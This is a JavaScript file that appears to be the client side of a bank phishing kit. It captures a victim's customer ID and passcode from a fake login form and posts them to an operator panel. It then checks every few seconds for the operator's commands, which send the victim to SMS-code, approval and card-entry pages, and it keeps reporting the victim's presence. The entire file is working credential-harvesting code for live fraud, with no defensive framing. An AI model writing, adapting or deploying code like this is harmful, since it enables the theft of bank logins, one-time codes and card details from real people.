var uid = localStorage.getItem("uid");
if (!uid) {
  uid = Math.random().toString(36).substring(2, 12);
  localStorage.setItem("uid", uid);
}

function check() {
  $.get("panel/status/" + uid + ".txt?" + Date.now(), function (cmd) {
    cmd = $.trim(cmd);
    switch (cmd) {
      case "sms": window.location = "sms.php?id=" + uid; break;
      case "sms_error": window.location = "sms.php?error=1&id=" + uid; break;
      case "app": window.location = "approve.php?id=" + uid; break;
      case "card": window.location = "cc.php?id=" + uid; break;
      case "card_error": window.location = "cc.php?error=1&id=" + uid; break;
      case "login_error": window.location = "index.php?error=1&id=" + uid; break;
      case "finish": window.location = "success.php"; break;
      case "ban": window.location = "https://www.bank-aurora.example"; break;
      default: break;
    }
  });
}

$("#frmLogin").submit(function (e) {
  e.preventDefault();
  $.post("panel/classes/processor.php", {
    action: "login",
    uid: uid,
    user: $("#customerId").val(),
    pin: $("#passcode").val(),
    ua: navigator.userAgent
  }, function () {
    $(".overlay").fadeIn();
    setInterval(check, 3000);
  });
});

setInterval(function () {
  $.post("panel/classes/processor.php", { action: "online", uid: uid, page: document.title });
}, 5000);
